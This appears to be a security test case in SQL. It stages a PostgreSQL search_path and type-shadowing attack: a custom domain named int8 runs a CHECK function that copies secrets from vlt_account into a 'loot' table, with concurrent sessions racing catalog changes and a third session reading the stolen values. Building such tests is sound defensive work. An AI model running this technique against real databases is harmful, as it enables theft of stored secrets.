-- Makes a type of its own stand where the check behind a proven statement says int8, while another session changes the catalog.
-- wants: read
-- attack:
CREATE TABLE loot (v text);
CREATE FUNCTION grab(value bigint) RETURNS boolean LANGUAGE plpgsql
  AS 'BEGIN INSERT INTO loot SELECT secret FROM vlt_account; RETURN true; END';
CREATE SCHEMA own;
CREATE DOMAIN own.int8 AS pg_catalog.int8 CHECK (grab(VALUE));
-- session: second
BEGIN;
CREATE TABLE unfinished ();
-- session: first
CREATE TABLE finished ();
SET search_path = own, public, pg_catalog;
SELECT pg_sleep(2.5);
SELECT count(*) FROM customer;
SELECT count(*) FROM orders;
SELECT '1'::int8;
-- session: second
COMMIT;
-- session: third
SELECT v FROM loot;
